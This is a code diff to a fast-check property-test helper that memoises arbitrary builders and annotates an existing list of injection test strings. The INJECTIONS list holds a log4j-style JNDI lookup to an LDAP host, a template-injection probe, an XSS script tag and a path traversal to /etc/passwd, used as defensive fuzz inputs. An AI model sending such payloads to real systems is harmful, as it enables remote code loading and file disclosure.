@@ -73,7 +73,7 @@ export function unsupportedKeywords(schema: unknown, where: string): string[] {
 const num = (v: unknown): number | undefined => (typeof v === 'number' ? v : undefined);
 
 /** RFC 3339 timestamps as clients send them: Z or an offset, 0..3 fraction digits, years 0001..9998. */
-const timestamp = () =>
+const timestamp = memo(() =>
   fc
     .tuple(
       fc.date({
@@ -94,15 +94,31 @@ const timestamp = () =>
           ? 'Z'
           : `${sign}${String(Math.floor(abs / 60)).padStart(2, '0')}:${String(abs % 60).padStart(2, '0')}`;
       return `${shifted.slice(0, 19)}${fraction}${zone}`;
-    });
+    }),
+);
+
+/** One arbitrary per key: building a fast-check string arbitrary costs milliseconds. */
+function memo<A extends unknown[], T>(make: (...args: A) => T): (...args: A) => T {
+  const made = new Map<string, T>();
+  return (...args) => {
+    const key = JSON.stringify(args);
+    let value = made.get(key);
+    if (value === undefined) {
+      value = make(...args);
+      made.set(key, value);
+    }
+    return value;
+  };
+}
 
 /** Free text: ASCII mostly, any Unicode (astral planes, U+0000) sometimes. */
-const text = (minLength: number, maxLength: number) =>
+const text = memo((minLength: number, maxLength: number) =>
   fc.oneof(
     { weight: 3, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength, maxLength }) },
     { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength, maxLength }) },
     { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength, maxLength }) },
-  );
+  ),
+);
 
 const finiteDouble = (min?: number, max?: number) =>
   fc
@@ -115,7 +131,9 @@ const finiteDouble = (min?: number, max?: number) =>
     .map((x) => x + 0); // JSON cannot carry -0
 
 /** Arbitrary JSON for schemas that allow anything (`{}`), two levels deep at most. */
-const anyJson = () => fc.jsonValue({ maxDepth: 2 }).map((v) => JSON.parse(JSON.stringify(v)) as unknown);
+const anyJson = memo(() =>
+  fc.jsonValue({ maxDepth: 2 }).map((v) => JSON.parse(JSON.stringify(v)) as unknown),
+);
 
 const cache = new WeakMap<Schema, fc.Arbitrary<unknown>>();
 
@@ -263,6 +281,7 @@ export const INJECTIONS = [
   '^abc',
   'col:value',
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as it is
   '${jndi:ldap://x/a}',
   '<script>alert(1)</script>',
   '../../../../etc/passwd',
